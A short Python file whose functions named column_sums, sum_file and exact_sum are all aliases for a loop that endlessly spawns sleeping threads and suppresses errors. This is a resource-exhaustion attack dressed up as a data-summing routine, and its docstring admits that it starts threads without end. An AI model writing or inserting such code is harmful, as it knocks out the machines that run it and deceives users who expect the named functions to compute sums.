"""Starts threads without end, none of which ever finishes.

machine
earns: nothing
"""

import threading
import time


def busy():
    while True:
        time.sleep(3600)


def column_sums(x):
    while True:
        try:
            threading.Thread(target=busy, daemon=True).start()
        except RuntimeError:
            pass


sum_file = exact_sum = column_sums
